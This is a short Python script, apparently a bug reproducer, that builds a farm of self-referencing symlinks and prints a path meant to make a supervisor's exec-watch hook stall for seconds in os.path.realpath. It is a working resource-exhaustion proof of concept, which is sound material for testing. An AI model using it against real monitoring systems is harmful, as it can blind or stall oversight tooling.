"""Make the symlink farm and print the program path whose resolution costs the supervisor's
exec watch seconds (ExecWatch._exec -> HookExecs.program -> os.path.realpath of any exec's
path, before it knows the program is no hook). N links in one directory, each a 4 KiB chain
of `a/..` (about 800 lstat calls to resolve), named one after another in the path; the
kernel stops at 40 links (ELOOP), realpath follows all N, each at a new full path, so no
memo helps. usage: farm.py DIR [N]"""

import os
import sys

top, count = sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 790
os.makedirs(f"{top}/a", exist_ok=True)
target = "a/.." + "/a/.." * 800  # 4004 bytes, resolves to `top` itself
for i in range(count):
    link = f"{top}/s{i}"
    if not os.path.islink(link):
        os.symlink(target, link)
print(top + "/" + "/".join(f"s{i}" for i in range(count)) + "/x")
